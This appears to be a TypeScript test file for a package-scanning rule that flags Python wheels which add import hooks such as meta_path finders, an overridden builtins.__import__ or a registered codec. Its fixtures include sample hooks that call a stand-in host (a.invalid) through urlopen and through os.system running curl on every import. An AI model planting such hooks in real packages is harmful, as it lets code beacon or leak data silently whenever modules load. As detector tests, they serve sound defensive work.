import { importHookAdded } from '../../src/rules/import-hook-added.js';
import { wheel } from '../support/wheel.js';
import { releaseTest } from './pipeline.js';

const init = (source: string) => wheel({ 'demo/__init__.py': source });
const inFunction = (source: string) => `def go():\n${source.replaceAll(/^(?=.)/gmu, '    ')}`;
const FINDER = 'class Finder:\n    def find_spec(self, name, path, target=None):\n        return None\n';
const ACTING =
  'import urllib.request\nclass Finder:\n    def find_spec(self, name, path, target=None):\n        urllib.request.urlopen("https://a.invalid/" + name)\n';
const INSERT = 'import sys\nsys.meta_path.insert(0, Finder())\n';
const CODEC = 'import codecs\ndef search(name):\n    return None\ncodecs.register(search)\n';

releaseTest(importHookAdded, {
  flags: [
    {
      name: 'a finder',
      given: { base: wheel(), head: init(FINDER + INSERT) },
      level: 'warn',
      says: 'sys.meta_path.insert',
    },
    {
      name: 'a finder that acts',
      given: { base: wheel(), head: init(ACTING + INSERT) },
      level: 'block',
      says: 'the hook acts',
    },
    {
      name: 'a list that is put before',
      given: { base: wheel(), head: init(`${ACTING}import sys\nsys.meta_path[:0] = [Finder()]\n`) },
      level: 'block',
    },
    {
      name: 'a list that is added to',
      given: { base: wheel(), head: init(`${FINDER}import sys\nsys.meta_path += [Finder()]\n`) },
      level: 'warn',
    },
    {
      name: 'a path hook',
      given: { base: wheel(), head: init(`${FINDER}import sys\nsys.path_hooks.append(Finder)\n`) },
      level: 'warn',
    },
    {
      name: 'the import function',
      given: {
        base: wheel(),
        head: init(
          'import builtins, os\nold = builtins.__import__\ndef new(name, *given):\n    os.system("curl https://a.invalid/" + name)\n    return old(name, *given)\nbuiltins.__import__ = new\n',
        ),
      },
      level: 'block',
      says: 'builtins.__import__',
    },
    {
      name: 'importlib’s own code',
      given: { base: wheel(), head: init('import importlib\ndef load(name): pass\nimportlib.import_module = load\n') },
      level: 'warn',
    },
    { name: 'a codec', given: { base: wheel(), head: init(CODEC) }, level: 'note', says: 'codecs.register' },
    {
      name: 'a codec for a file’s own text',
      given: {
        base: wheel(),
        head: wheel({ 'demo/__init__.py': CODEC, 'demo/page.py': '# coding: demo\nprint("hello")\n' }),
      },
      level: 'block',
      says: 'declares a codec',
    },
    {
      name: 'an audit hook',
      given: { base: wheel(), head: init('import sys\ndef see(*given): pass\nsys.addaudithook(see)\n') },
      level: 'warn',
    },
    {
      name: 'a finder that acts, when called',
      given: { base: wheel(), head: init(inFunction(ACTING + INSERT)) },
      level: 'warn',
    },
    { name: 'a first release that acts', given: { head: init(ACTING + INSERT) }, level: 'warn' },
  ],
  allows: [
    {
      name: 'a finder, when called',
      given: { base: wheel(), head: init(inFunction(FINDER + INSERT)) },
      atMost: 'note',
    },
    { name: 'a look at the finders', given: { base: wheel(), head: init('import sys\nprint(list(sys.meta_path))\n') } },
    { name: 'a finder taken out', given: { base: wheel(), head: init('import sys\nsys.meta_path.pop()\n') } },
    {
      name: 'caches cleared',
      given: {
        base: wheel(),
        head: init('import importlib, sys\nimportlib.invalidate_caches()\nsys.path_importer_cache.clear()\n'),
      },
    },
    {
      name: 'tracing, when called',
      given: { base: wheel(), head: init(inFunction('import sys\nsys.settrace(print)\n')) },
    },
    {
      name: 'a directory of modules',
      given: { base: wheel(), head: init('import site\nsite.addsitedir("vendor")\n') },
      atMost: 'note',
    },
    { name: 'a path', given: { base: wheel(), head: init('import sys\nsys.path.insert(0, "vendor")\n') } },
    {
      name: 'a module imported by name',
      given: { base: wheel(), head: init('import importlib\nimportlib.import_module("json")\n') },
    },
    { name: 'what the base did too', given: { base: init(FINDER + INSERT), head: init(`V = 2\n${FINDER}${INSERT}`) } },
    { name: 'a first release without more', given: { head: init(FINDER + INSERT) }, atMost: 'note' },
  ],
});
